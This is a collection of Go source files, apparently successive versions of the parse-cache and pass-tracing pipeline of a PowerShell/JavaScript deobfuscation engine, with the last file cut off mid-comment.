	// vs nested-layer time instead of double-attributing the nested work.
	nestedDepth int
	nestedTime  time.Duration
}

// BeginNested marks entry into a nested payload layer whose pass work
// executes inside the currently running pass (the ast phase re-enters
// the token and ast phases for every unwrapped layer). It returns the
// matching end function, to be called — typically deferred — when the
// nested layer finishes. Only the outermost nesting level accrues time,
// so recursive layers are counted once, and Runner.Run subtracts the
// accrued time from the enclosing pass's SelfDuration while leaving its
// cumulative Duration intact.
func (pc *PassContext) BeginNested() func() {
	pc.nestedDepth++
	start := time.Now()
	return func() {
		pc.nestedDepth--
		if pc.nestedDepth == 0 {
			pc.nestedTime += time.Since(start)
		}
	}
}

// ValidOrRevert returns candidate when it parses under view's
// language, fallback otherwise (the paper's per-step syntax check,
// §IV-A). The validity parse goes through the run's cache — a
// candidate checked here and then kept is never re-parsed by the next
// pass — and reverts are counted into the pass trace.
func (pc *PassContext) ValidOrRevert(view *View, candidate, fallback string) string {
	if strings.TrimSpace(candidate) == "" {
		pc.Reverts++
		return fallback
	}
	if !view.Valid(candidate) {
		pc.Reverts++
		return fallback
	}
	return candidate
}

// passFunc adapts a function to the Pass interface.
type passFunc struct {
	name string
	fn   func(*PassContext) error
}

func (p passFunc) Name() string              { return p.name }
func (p passFunc) Run(pc *PassContext) error { return p.fn(pc) }

// NewPass wraps fn as a named Pass.
func NewPass(name string, fn func(*PassContext) error) Pass {
	return passFunc{name: name, fn: fn}
}

// PassStat is the aggregated trace of one pass across all its runs in
// a deobfuscation (a pass in the fixpoint loop runs once per
// iteration; its stats accumulate).
type PassStat struct {
	// Pass is the pass name.
	Pass string
	// Runs is how many times the pass executed.
	Runs int
	// Duration is total wall-clock time spent inside the pass,
	// including nested payload layers unwrapped from within it
	// (cumulative time).
	Duration time.Duration
	// SelfDuration is Duration minus the time spent inside nested
	// payload layers re-entered from within the pass (the layers'
	// token/ast work runs under the enclosing ast pass). Summing
	// SelfDuration across passes approximates the run's wall clock;
	// summing Duration double-counts every unwrapped layer.
	SelfDuration time.Duration
	// BytesIn is the document size when the pass first ran.
	BytesIn int
	// BytesOut is the document size after the pass's latest run.
	BytesOut int
	// Reverts counts candidate rewrites rolled back inside this pass.
	Reverts int
	// CacheHits / CacheMisses are this pass's parse-cache requests
	// (per-run view accounting: exact even when batch workers share a
	// cache).
	CacheHits   int64
	CacheMisses int64
	// EvalHits / EvalMisses / EvalSkips are this pass's evaluation-cache
	// outcomes: hits replayed a memoized pure result, misses evaluated
	// and cached, skips evaluated but were uncacheable (impure piece,
	// failed run, or uncopyable values).
	EvalHits   int64
	EvalMisses int64
	EvalSkips  int64
}

// Trace accumulates PassStats in first-run order. It is confined to
// one run (one goroutine).
type Trace struct {
	order  []string
	byName map[string]*PassStat
}

// NewTrace returns an empty Trace.
func NewTrace() *Trace {
	return &Trace{byName: make(map[string]*PassStat)}
}

// Record folds one pass execution into the trace. d is the execution's
// cumulative duration, self the portion spent outside nested payload
// layers.
func (t *Trace) Record(pass string, d, self time.Duration, bytesIn, bytesOut, reverts int, hits, misses int64, evalHits, evalMisses, evalSkips int64) {
	st, ok := t.byName[pass]
	if !ok {
		st = &PassStat{Pass: pass, BytesIn: bytesIn}
		t.byName[pass] = st
		t.order = append(t.order, pass)
	}
	st.Runs++
	st.Duration += d
	st.SelfDuration += self
	st.BytesOut = bytesOut
	st.Reverts += reverts
	st.CacheHits += hits
	st.CacheMisses += misses
	st.EvalHits += evalHits
	st.EvalMisses += evalMisses
	st.EvalSkips += evalSkips
}

// Stats returns the accumulated per-pass statistics in first-run order.
func (t *Trace) Stats() []PassStat {
	out := make([]PassStat, 0, len(t.order))
	for _, name := range t.order {
		out = append(out, *t.byName[name])
	}
	return out
}

// Runner executes passes over a PassContext, recording a trace entry
// per execution (duration, bytes in/out, reverts, cache hits/misses).
type Runner struct {
	trace *Trace
}

// NewRunner returns a Runner recording into trace (nil allocates one).
func NewRunner(trace *Trace) *Runner {
	if trace == nil {
		trace = NewTrace()
	}
	return &Runner{trace: trace}
}

// Trace returns the runner's trace.
func (r *Runner) Trace() *Trace { return r.trace }

// Run executes one pass and records its trace entry. The pass's error
// is returned unwrapped.
func (r *Runner) Run(p Pass, pc *PassContext) error {
	view := pc.Doc.View()
	hits0, misses0 := view.Hits, view.Misses
	var eh0, em0, es0 int64
	if pc.Eval != nil {
		eh0, em0, es0 = pc.Eval.Hits, pc.Eval.Misses, pc.Eval.Skips
	}
	reverts0 := pc.Reverts
	bytesIn := pc.Doc.Len()
	nested0 := pc.nestedTime
	start := time.Now()
	err := p.Run(pc)
	total := time.Since(start)
	var eh, em, es int64
	if pc.Eval != nil {
		eh, em, es = pc.Eval.Hits-eh0, pc.Eval.Misses-em0, pc.Eval.Skips-es0
	}
	// Self time excludes the nested payload layers processed inside this
	// execution; their own pass work would otherwise be attributed twice.
	self := total - (pc.nestedTime - nested0)
	if self < 0 {
		self = 0
	}
	r.trace.Record(p.Name(), total, self, bytesIn, pc.Doc.Len(),
		pc.Reverts-reverts0, view.Hits-hits0, view.Misses-misses0, eh, em, es)
	return err
}
