// Package pipeline provides the pass-pipeline architecture the
// deobfuscation engine is built on: a bounded, content-hash-keyed parse
// cache shared by every phase of a run (and, in batch mode, across
// scripts), a Document type that lazily memoizes its token stream and
// AST through that cache, a Pass interface the engine's phases
// implement, and a Runner/Trace pair that records per-pass duration,
// bytes in/out, reverts and cache hit rates.
//
// The cache is the amortization foothold: the fixpoint loop, the
// per-splice validity checks, literal detection, piece evaluation,
// unwrap, rename and reformat all ask the same cache, so identical text
// is tokenized and parsed at most once per run instead of once per
// consumer.
package pipeline

import (
	"hash/maphash"
	"sync"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
	"github.com/invoke-deobfuscation/invokedeob/internal/pstoken"
)

// Default cache bounds. Hostile inputs that manufacture unbounded
// distinct sub-texts (every splice producing new candidate strings)
// cannot balloon the cache past these: the oldest entries are evicted
// FIFO once either bound is exceeded.
const (
	// DefaultMaxEntries bounds the number of distinct cached texts.
	DefaultMaxEntries = 4096
	// DefaultMaxBytes bounds the total bytes of cached source text
	// (the dominant memory term; ASTs and token slices are proportional).
	DefaultMaxBytes = 16 << 20
	// maxCacheableText is the largest single text worth caching; bigger
	// texts are parsed directly so one giant layer cannot evict the
	// whole working set.
	maxCacheableText = 4 << 20
)

// hashSeed is the process-wide seed for content hashing. A fixed seed
// per process is fine: buckets compare full text, so collisions cost
// a chain walk, never a wrong answer.
var hashSeed = maphash.MakeSeed()

// CacheStats is a point-in-time snapshot of cache effectiveness.
type CacheStats struct {
	// Hits counts artifact requests answered from memory.
	Hits int64
	// Misses counts artifact requests that had to tokenize or parse.
	Misses int64
	// Evictions counts entries dropped to stay within bounds.
	Evictions int64
	// Entries is the current number of cached texts.
	Entries int
	// Bytes is the current total of cached source-text bytes.
	Bytes int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic. Serving
// frontends surface this per scrape; because Stats() snapshots the
// counters under the cache lock, the ratio is internally consistent
// even while concurrent requests keep hitting the cache.
func (s CacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// cacheEntry memoizes the artifacts of one exact source text. Each
// artifact is computed at most once (sync.Once) even under concurrent
// batch workers; an entry evicted mid-flight stays valid for the
// goroutines already holding it.
type cacheEntry struct {
	text string

	tokOnce sync.Once
	toks    []pstoken.Token
	tokErr  error

	astOnce sync.Once
	ast     *psast.ScriptBlock
	astErr  error
}

func (e *cacheEntry) tokens() ([]pstoken.Token, error, bool) {
	hit := true
	e.tokOnce.Do(func() {
		hit = false
		e.toks, e.tokErr = pstoken.Tokenize(e.text)
	})
	return e.toks, e.tokErr, hit
}

func (e *cacheEntry) parse() (*psast.ScriptBlock, error, bool) {
	hit := true
	e.astOnce.Do(func() {
		hit = false
		e.ast, e.astErr = psparser.Parse(e.text)
	})
	return e.ast, e.astErr, hit
}

// Cache is a bounded, thread-safe memoization of tokenize/parse results
// keyed by content hash (verified against the full text, so hash
// collisions degrade to misses, never wrong answers). One Cache serves
// one deobfuscation run, or — in batch mode — is shared by all workers
// so identical layers across scripts parse once.
type Cache struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	buckets    map[uint64][]*cacheEntry
	fifo       []*cacheEntry // eviction order (insertion order)

	hits, misses, evictions int64
}

// NewCache returns a Cache bounded by maxEntries texts and maxBytes of
// cached source. Non-positive arguments select the defaults.
func NewCache(maxEntries int, maxBytes int64) *Cache {
	if maxEntries <= 0 {
		maxEntries = DefaultMaxEntries
	}
	if maxBytes <= 0 {
		maxBytes = DefaultMaxBytes
	}
	return &Cache{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		buckets:    make(map[uint64][]*cacheEntry),
	}
}

// lookup returns the entry for text, creating (and bounding) it as
// needed. A nil return means the text is too large to cache.
func (c *Cache) lookup(text string) *cacheEntry {
	if len(text) > maxCacheableText {
		return nil
	}
	key := maphash.String(hashSeed, text)
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, e := range c.buckets[key] {
		if e.text == text {
			return e
		}
	}
	e := &cacheEntry{text: text}
	c.buckets[key] = append(c.buckets[key], e)
	c.fifo = append(c.fifo, e)
	c.bytes += int64(len(text))
	for (len(c.fifo) > c.maxEntries || c.bytes > c.maxBytes) && len(c.fifo) > 1 {
		c.evictOldestLocked()
	}
	return e
}

// evictOldestLocked drops the oldest entry. Callers hold c.mu.
func (c *Cache) evictOldestLocked() {
	victim := c.fifo[0]
	c.fifo = c.fifo[1:]
	key := maphash.String(hashSeed, victim.text)
	bucket := c.buckets[key]
	for i, e := range bucket {
		if e == victim {
			c.buckets[key] = append(bucket[:i], bucket[i+1:]...)
			break
		}
	}
	if len(c.buckets[key]) == 0 {
		delete(c.buckets, key)
	}
	c.bytes -= int64(len(victim.text))
	c.evictions++
}

// record folds a hit/miss observation into the global counters.
func (c *Cache) record(hit bool) {
	c.mu.Lock()
	if hit {
		c.hits++
	} else {
		c.misses++
	}
	c.mu.Unlock()
}

// Tokenize returns the (possibly memoized) token stream of src.
// The returned slice is shared: callers must not mutate it.
func (c *Cache) Tokenize(src string) ([]pstoken.Token, error) {
	toks, err, _ := c.tokenize(src)
	return toks, err
}

func (c *Cache) tokenize(src string) ([]pstoken.Token, error, bool) {
	e := c.lookup(src)
	if e == nil {
		toks, err := pstoken.Tokenize(src)
		c.record(false)
		return toks, err, false
	}
	toks, err, hit := e.tokens()
	c.record(hit)
	return toks, err, hit
}

// Parse returns the (possibly memoized) AST of src. Parse errors are
// memoized too — a failed candidate rejected once by validOrRevert is
// never re-parsed. The returned AST is shared: callers must treat it as
// immutable (every consumer in this codebase walks ASTs read-only).
func (c *Cache) Parse(src string) (*psast.ScriptBlock, error) {
	sb, err, _ := c.parse(src)
	return sb, err
}

func (c *Cache) parse(src string) (*psast.ScriptBlock, error, bool) {
	e := c.lookup(src)
	if e == nil {
		sb, err := psparser.Parse(src)
		c.record(false)
		return sb, err, false
	}
	sb, err, hit := e.parse()
	c.record(hit)
	return sb, err, hit
}

// Valid reports whether src parses, through the cache.
func (c *Cache) Valid(src string) bool {
	_, err := c.Parse(src)
	return err == nil
}

// Stats snapshots the cache counters.
func (c *Cache) Stats() CacheStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return CacheStats{
		Hits:      c.hits,
		Misses:    c.misses,
		Evictions: c.evictions,
		Entries:   len(c.fifo),
		Bytes:     c.bytes,
	}
}

// View returns a per-run accounting view of the cache. Views forward
// every request to the shared Cache but keep their own hit/miss
// counters, so per-pass trace attribution stays exact even when many
// batch workers share one Cache. A View is not safe for concurrent use;
// each run owns its own.
func (c *Cache) View() *View {
	return &View{c: c}
}

// View is a single-run window onto a shared Cache. See Cache.View.
type View struct {
	c *Cache
	// Hits and Misses count this view's requests only.
	Hits, Misses int64
}

// Cache returns the underlying shared cache.
func (v *View) Cache() *Cache { return v.c }

func (v *View) observe(hit bool) {
	if hit {
		v.Hits++
	} else {
		v.Misses++
	}
}

// Tokenize is Cache.Tokenize with per-view accounting.
func (v *View) Tokenize(src string) ([]pstoken.Token, error) {
	toks, err, hit := v.c.tokenize(src)
	v.observe(hit)
	return toks, err
}

// Parse is Cache.Parse with per-view accounting.
func (v *View) Parse(src string) (*psast.ScriptBlock, error) {
	sb, err, hit := v.c.parse(src)
	v.observe(hit)
	return sb, err
}

// Valid reports whether src parses, with per-view accounting.
func (v *View) Valid(src string) bool {
	_, err := v.Parse(src)
	return err == nil
}

// defaultCache backs package-level conveniences (facade ValidSyntax):
// a process-wide bounded cache so repeated validity checks over the
// same scripts — corpus preprocessing, experiment funnels — parse once.
var defaultCache = NewCache(0, 0)

// DefaultCache returns the process-wide shared cache.
func DefaultCache() *Cache { return defaultCache }
