// Package pipeline provides the language-neutral pass-pipeline
// architecture the deobfuscation engine is built on: a bounded,
// content-hash-keyed parse cache shared by every phase of a run (and,
// in batch mode, across scripts), a Document type that lazily memoizes
// its token stream and AST through that cache, a Pass interface the
// engine's phases implement, and a Runner/Trace pair that records
// per-pass duration, bytes in/out, reverts and cache hit rates.
//
// The package knows nothing about any concrete language: tokenizing
// and parsing are delegated to a Lang (the structural subset of a
// frontend), artifacts are opaque `any` values the owning frontend
// asserts back to its concrete types, and every cache key is
// namespaced by the frontend's name so identical bytes submitted as
// different languages can never collide.
//
// The cache is the amortization foothold: the fixpoint loop, the
// per-splice validity checks, literal detection, piece evaluation,
// unwrap, rename and reformat all ask the same cache, so identical text
// is tokenized and parsed at most once per run instead of once per
// consumer.
package pipeline

import (
	"errors"
	"hash/maphash"
	"sync"
)

// Lang is the minimal structural surface of a language frontend the
// pipeline needs: a stable name (the cache namespace) and the two
// artifact producers. The full frontend.Frontend interface satisfies
// Lang; pipeline deliberately depends on nothing more so the frontend
// package can import pipeline without a cycle.
type Lang interface {
	// Name identifies the language ("powershell", "javascript"). It is
	// part of every cache key.
	Name() string
	// Tokenize produces the language's token-stream artifact.
	Tokenize(src string) (any, error)
	// Parse produces the language's AST artifact. A nil error means the
	// source is syntactically valid.
	Parse(src string) (any, error)
}

// ErrNoLang is returned by Views and Documents that were constructed
// without a language.
var ErrNoLang = errors.New("pipeline: no language frontend attached")

// Default cache bounds. Hostile inputs that manufacture unbounded
// distinct sub-texts (every splice producing new candidate strings)
// cannot balloon the cache past these: the oldest entries are evicted
// FIFO once either bound is exceeded.
const (
	// DefaultMaxEntries bounds the number of distinct cached texts.
	DefaultMaxEntries = 4096
	// DefaultMaxBytes bounds the total bytes of cached source text
	// (the dominant memory term; ASTs and token slices are proportional).
	DefaultMaxBytes = 16 << 20
	// maxCacheableText is the largest single text worth caching; bigger
	// texts are parsed directly so one giant layer cannot evict the
	// whole working set.
	maxCacheableText = 4 << 20
)

// hashSeed is the process-wide seed for content hashing. A fixed seed
// per process is fine: buckets compare full text, so collisions cost
// a chain walk, never a wrong answer.
var hashSeed = maphash.MakeSeed()

// hashKey hashes a (language, text) pair. The NUL separator keeps the
// namespace unambiguous (language names never contain NUL).
func hashKey(lang, text string) uint64 {
	var h maphash.Hash
	h.SetSeed(hashSeed)
	h.WriteString(lang)
	h.WriteByte(0)
	h.WriteString(text)
	return h.Sum64()
}

// CacheStats is a point-in-time snapshot of cache effectiveness.
type CacheStats struct {
	// Hits counts artifact requests answered from memory.
	Hits int64
	// Misses counts artifact requests that had to tokenize or parse.
	Misses int64
	// Evictions counts entries dropped to stay within bounds.
	Evictions int64
	// Entries is the current number of cached texts.
	Entries int
	// Bytes is the current total of cached source-text bytes.
	Bytes int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic. Serving
// frontends surface this per scrape; because Stats() snapshots the
// counters under the cache lock, the ratio is internally consistent
// even while concurrent requests keep hitting the cache.
func (s CacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// LangCacheStats is the per-language slice of a cache's traffic,
// reported by LangStats so serving frontends can attribute hit rates
// to frontends without conflating mixed-language traffic.
type LangCacheStats struct {
	// Hits / Misses count this language's artifact requests only.
	Hits, Misses int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic.
func (s LangCacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// cacheEntry memoizes the artifacts of one exact (language, text)
// pair. Each artifact is computed at most once (sync.Once) even under
// concurrent batch workers; an entry evicted mid-flight stays valid
// for the goroutines already holding it.
type cacheEntry struct {
	lang string
	text string

	tokOnce sync.Once
	toks    any
	tokErr  error

	astOnce sync.Once
	ast     any
	astErr  error
}

func (e *cacheEntry) tokens(l Lang) (any, error, bool) {
	hit := true
	e.tokOnce.Do(func() {
		hit = false
		e.toks, e.tokErr = l.Tokenize(e.text)
	})
	return e.toks, e.tokErr, hit
}

func (e *cacheEntry) parse(l Lang) (any, error, bool) {
	hit := true
	e.astOnce.Do(func() {
		hit = false
		e.ast, e.astErr = l.Parse(e.text)
	})
	return e.ast, e.astErr, hit
}

// Cache is a bounded, thread-safe memoization of tokenize/parse results
// keyed by content hash over (language, text) — verified against both,
// so hash collisions degrade to misses, never wrong answers, and the
// same bytes cached for one language are invisible to another. One
// Cache serves one deobfuscation run, or — in batch and server mode —
// is shared by all workers so identical layers across scripts parse
// once per language.
type Cache struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	buckets    map[uint64][]*cacheEntry
	fifo       []*cacheEntry // eviction order (insertion order)

	hits, misses, evictions int64
	perLang                 map[string]*LangCacheStats
}

// NewCache returns a Cache bounded by maxEntries texts and maxBytes of
// cached source. Non-positive arguments select the defaults.
func NewCache(maxEntries int, maxBytes int64) *Cache {
	if maxEntries <= 0 {
		maxEntries = DefaultMaxEntries
	}
	if maxBytes <= 0 {
		maxBytes = DefaultMaxBytes
	}
	return &Cache{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		buckets:    make(map[uint64][]*cacheEntry),
		perLang:    make(map[string]*LangCacheStats),
	}
}

// lookup returns the entry for (lang, text), creating (and bounding) it
// as needed. A nil return means the text is too large to cache.
func (c *Cache) lookup(lang, text string) *cacheEntry {
	if len(text) > maxCacheableText {
		return nil
	}
	key := hashKey(lang, text)
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, e := range c.buckets[key] {
		if e.lang == lang && e.text == text {
			return e
		}
	}
	e := &cacheEntry{lang: lang, text: text}
	c.buckets[key] = append(c.buckets[key], e)
	c.fifo = append(c.fifo, e)
	c.bytes += int64(len(text))
	for (len(c.fifo) > c.maxEntries || c.bytes > c.maxBytes) && len(c.fifo) > 1 {
		c.evictOldestLocked()
	}
	return e
}

// evictOldestLocked drops the oldest entry. Callers hold c.mu.
func (c *Cache) evictOldestLocked() {
	victim := c.fifo[0]
	c.fifo = c.fifo[1:]
	key := hashKey(victim.lang, victim.text)
	bucket := c.buckets[key]
	for i, e := range bucket {
		if e == victim {
			c.buckets[key] = append(bucket[:i], bucket[i+1:]...)
			break
		}
	}
	if len(c.buckets[key]) == 0 {
		delete(c.buckets, key)
	}
	c.bytes -= int64(len(victim.text))
	c.evictions++
}

// record folds a hit/miss observation into the global and per-language
// counters.
func (c *Cache) record(lang string, hit bool) {
	c.mu.Lock()
	ls := c.perLang[lang]
	if ls == nil {
		ls = &LangCacheStats{}
		c.perLang[lang] = ls
	}
	if hit {
		c.hits++
		ls.Hits++
	} else {
		c.misses++
		ls.Misses++
	}
	c.mu.Unlock()
}

// Tokenize returns the (possibly memoized) token artifact of src under
// language l. The returned artifact is shared: callers must not mutate
// it.
func (c *Cache) Tokenize(l Lang, src string) (any, error) {
	toks, err, _ := c.tokenize(l, src)
	return toks, err
}

func (c *Cache) tokenize(l Lang, src string) (any, error, bool) {
	if l == nil {
		return nil, ErrNoLang, false
	}
	e := c.lookup(l.Name(), src)
	if e == nil {
		toks, err := l.Tokenize(src)
		c.record(l.Name(), false)
		return toks, err, false
	}
	toks, err, hit := e.tokens(l)
	c.record(l.Name(), hit)
	return toks, err, hit
}

// Parse returns the (possibly memoized) AST artifact of src under
// language l. Parse errors are memoized too — a failed candidate
// rejected once by a validity check is never re-parsed. The returned
// AST is shared: callers must treat it as immutable (every consumer in
// this codebase walks ASTs read-only).
func (c *Cache) Parse(l Lang, src string) (any, error) {
	sb, err, _ := c.parse(l, src)
	return sb, err
}

func (c *Cache) parse(l Lang, src string) (any, error, bool) {
	if l == nil {
		return nil, ErrNoLang, false
	}
	e := c.lookup(l.Name(), src)
	if e == nil {
		sb, err := l.Parse(src)
		c.record(l.Name(), false)
		return sb, err, false
	}
	sb, err, hit := e.parse(l)
	c.record(l.Name(), hit)
	return sb, err, hit
}

// Valid reports whether src parses under language l, through the cache.
func (c *Cache) Valid(l Lang, src string) bool {
	_, err := c.Parse(l, src)
	return err == nil
}

// Stats snapshots the cache counters.
func (c *Cache) Stats() CacheStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return CacheStats{
		Hits:      c.hits,
		Misses:    c.misses,
		Evictions: c.evictions,
		Entries:   len(c.fifo),
		Bytes:     c.bytes,
	}
}

// LangStats snapshots the per-language hit/miss counters.
func (c *Cache) LangStats() map[string]LangCacheStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make(map[string]LangCacheStats, len(c.perLang))
	for lang, ls := range c.perLang {
		out[lang] = *ls
	}
	return out
}

// Entries reports the number of distinct cached (language, text) pairs.
func (c *Cache) Entries() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.fifo)
}

// View returns a per-run accounting view of the cache bound to one
// language. Views forward every request to the shared Cache but keep
// their own hit/miss counters, so per-pass trace attribution stays
// exact even when many batch workers share one Cache. A View is not
// safe for concurrent use; each run owns its own.
func (c *Cache) View(l Lang) *View {
	return &View{c: c, lang: l}
}

// View is a single-run, single-language window onto a shared Cache.
// See Cache.View.
type View struct {
	c    *Cache
	lang Lang
	// Hits and Misses count this view's requests only.
	Hits, Misses int64
}

// Cache returns the underlying shared cache.
func (v *View) Cache() *Cache { return v.c }

// Lang returns the language this view is bound to.
func (v *View) Lang() Lang { return v.lang }

func (v *View) observe(hit bool) {
	if hit {
		v.Hits++
	} else {
		v.Misses++
	}
}

// Tokenize is Cache.Tokenize with per-view accounting.
func (v *View) Tokenize(src string) (any, error) {
	toks, err, hit := v.c.tokenize(v.lang, src)
	v.observe(hit)
	return toks, err
}

// Parse is Cache.Parse with per-view accounting.
func (v *View) Parse(src string) (any, error) {
	sb, err, hit := v.c.parse(v.lang, src)
	v.observe(hit)
	return sb, err
}

// Valid reports whether src parses, with per-view accounting.
func (v *View) Valid(src string) bool {
	_, err := v.Parse(src)
	return err == nil
}

// defaultCache backs package-level conveniences (facade ValidSyntax):
// a process-wide bounded cache so repeated validity checks over the
// same scripts — corpus preprocessing, experiment funnels — parse once.
var defaultCache = NewCache(0, 0)

// DefaultCache returns the process-wide shared cache.
func DefaultCache() *Cache { return defaultCache }
