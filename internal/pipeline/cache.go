// Package pipeline provides the language-neutral pass-pipeline
// architecture the deobfuscation engine is built on: a bounded,
// content-hash-keyed parse cache shared by every phase of a run (and,
// in batch mode, across scripts), a Document type that lazily memoizes
// its token stream and AST through that cache, a Pass interface the
// engine's phases implement, and a Runner/Trace pair that records
// per-pass duration, bytes in/out, reverts and cache hit rates.
//
// The package knows nothing about any concrete language: tokenizing
// and parsing are delegated to a Lang (the structural subset of a
// frontend), artifacts are opaque `any` values the owning frontend
// asserts back to its concrete types, and every cache key is
// namespaced by the frontend's name so identical bytes submitted as
// different languages can never collide.
//
// The cache is the amortization foothold: the fixpoint loop, the
// per-splice validity checks, literal detection, piece evaluation,
// unwrap, rename and reformat all ask the same cache, so identical text
// is tokenized and parsed at most once per run instead of once per
// consumer.
//
// For serving workloads the cache is a striped tier: entries are
// sharded by content hash across power-of-two independent shards
// (each with its own lock and LRU list), so concurrent requests on a
// many-core server contend on 1/N of the lock traffic instead of one
// global mutex, and artifact computation is coalesced — concurrent
// requests for the same (language, text) block on one computation
// instead of racing duplicates through the parser.
package pipeline

import (
	"container/list"
	"errors"
	"hash/maphash"
	"runtime"
	"sync"
	"sync/atomic"
)

// Lang is the minimal structural surface of a language frontend the
// pipeline needs: a stable name (the cache namespace) and the two
// artifact producers. The full frontend.Frontend interface satisfies
// Lang; pipeline deliberately depends on nothing more so the frontend
// package can import pipeline without a cycle.
type Lang interface {
	// Name identifies the language ("powershell", "javascript"). It is
	// part of every cache key.
	Name() string
	// Tokenize produces the language's token-stream artifact.
	Tokenize(src string) (any, error)
	// Parse produces the language's AST artifact. A nil error means the
	// source is syntactically valid.
	Parse(src string) (any, error)
}

// ErrNoLang is returned by Views and Documents that were constructed
// without a language.
var ErrNoLang = errors.New("pipeline: no language frontend attached")

// Default cache bounds. Hostile inputs that manufacture unbounded
// distinct sub-texts (every splice producing new candidate strings)
// cannot balloon the cache past these: the least-recently-used entries
// are evicted once either bound is exceeded.
const (
	// DefaultMaxEntries bounds the number of distinct cached texts.
	DefaultMaxEntries = 4096
	// DefaultMaxBytes bounds the total bytes of cached source text
	// (the dominant memory term; ASTs and token slices are proportional).
	DefaultMaxBytes = 16 << 20
	// maxCacheableText is the largest single text worth caching; bigger
	// texts are parsed directly so one giant layer cannot evict the
	// whole working set.
	maxCacheableText = 4 << 20
)

// Shard sizing. The shard count is a power of two scaled from
// GOMAXPROCS (several stripes per core so two hot keys rarely share a
// lock) and then scaled *down* until every shard keeps a useful
// working set — a tiny cache degenerates to one shard, which behaves
// exactly like the historical single-mutex cache.
const (
	// maxShards caps the stripe count regardless of core count.
	maxShards = 256
	// minShardEntries / minShardBytes are the smallest per-shard
	// budgets worth striping; below them the shard count halves.
	minShardEntries = 64
	minShardBytes   = 64 << 10
)

// defaultShardCount returns the GOMAXPROCS-scaled power-of-two stripe
// count before bound-scaling: 8 stripes per core, clamped to
// [8, maxShards].
func defaultShardCount() int {
	n := 8
	target := 8 * runtime.GOMAXPROCS(0)
	for n < target && n < maxShards {
		n <<= 1
	}
	return n
}

// shardCount resolves the effective stripe count for the given bounds:
// requested (0 = default) rounded up to a power of two, capped at
// maxShards, then halved until every shard holds at least
// minShardEntries entries and minShardBytes bytes.
func shardCount(requested, maxEntries int, maxBytes int64) int {
	n := requested
	if n <= 0 {
		n = defaultShardCount()
	} else {
		p := 1
		for p < n && p < maxShards {
			p <<= 1
		}
		n = p
	}
	if n > maxShards {
		n = maxShards
	}
	for n > 1 && (maxEntries/n < minShardEntries || maxBytes/int64(n) < minShardBytes) {
		n >>= 1
	}
	return n
}

// hashSeed is the process-wide seed for content hashing. A fixed seed
// per process is fine: buckets compare full text, so collisions cost
// a chain walk, never a wrong answer.
var hashSeed = maphash.MakeSeed()

// hashKey hashes a (language, text) pair. The NUL separator keeps the
// namespace unambiguous (language names never contain NUL).
func hashKey(lang, text string) uint64 {
	var h maphash.Hash
	h.SetSeed(hashSeed)
	h.WriteString(lang)
	h.WriteByte(0)
	h.WriteString(text)
	return h.Sum64()
}

// CacheStats is a point-in-time snapshot of cache effectiveness.
type CacheStats struct {
	// Hits counts artifact requests answered from memory.
	Hits int64
	// Misses counts artifact requests that had to tokenize or parse.
	Misses int64
	// Evictions counts entries dropped to stay within bounds.
	Evictions int64
	// Entries is the current number of cached texts.
	Entries int
	// Bytes is the current total of cached source-text bytes.
	Bytes int64
	// Shards is the number of independent lock stripes.
	Shards int
	// CoalescedWaits counts requests that blocked on another request's
	// in-flight computation of the same artifact instead of computing a
	// duplicate (the singleflight payoff).
	CoalescedWaits int64
	// Warmed counts entries preloaded from a warm-restart snapshot.
	Warmed int64
	// WarmHits counts hits served by a snapshot-preloaded artifact —
	// work a cold-started process would have had to redo.
	WarmHits int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic. Serving
// frontends surface this per scrape; because Stats() snapshots each
// shard's counters under its lock, the ratio is internally consistent
// even while concurrent requests keep hitting the cache.
func (s CacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// LangCacheStats is the per-language slice of a cache's traffic,
// reported by LangStats so serving frontends can attribute hit rates
// to frontends without conflating mixed-language traffic.
type LangCacheStats struct {
	// Hits / Misses count this language's artifact requests only.
	Hits, Misses int64
}

// HitRate returns Hits / (Hits + Misses), or 0 with no traffic.
func (s LangCacheStats) HitRate() float64 {
	if total := s.Hits + s.Misses; total > 0 {
		return float64(s.Hits) / float64(total)
	}
	return 0
}

// Artifact-slot states. A slot is the singleflight cell for one
// artifact (token stream or AST) of one entry.
const (
	slotEmpty = iota
	slotComputing
	slotDone
)

// artifactSlot memoizes one artifact with explicit singleflight: the
// first requester becomes the leader and computes; concurrent
// requesters wait on done and are counted as coalesced. A leader that
// panics resets the slot to empty before propagating, so waiters retry
// the computation themselves instead of inheriting a poisoned cell —
// each caller's own envelope classifies its own failure.
type artifactSlot struct {
	state int
	done  chan struct{} // non-nil while state == slotComputing
	val   any
	err   error
	// warm marks an artifact derived by snapshot Preload; hits on it
	// are the warm-restart payoff and counted separately.
	warm bool
}

// cacheEntry memoizes the artifacts of one exact (language, text)
// pair. Each artifact is computed at most once per generation even
// under concurrent workers; an entry evicted mid-flight stays valid
// for the goroutines already holding it.
type cacheEntry struct {
	lang string
	text string

	mu  sync.Mutex
	tok artifactSlot
	ast artifactSlot

	// elem is the entry's node in its shard's LRU list (guarded by the
	// shard lock, not e.mu).
	elem *list.Element
}

// artifact returns the slot's memoized value, computing it via the
// singleflight protocol when absent. The hit result reports whether
// the value came from memory; warm reports a hit on a
// snapshot-preloaded artifact. onWait is invoked once each time this
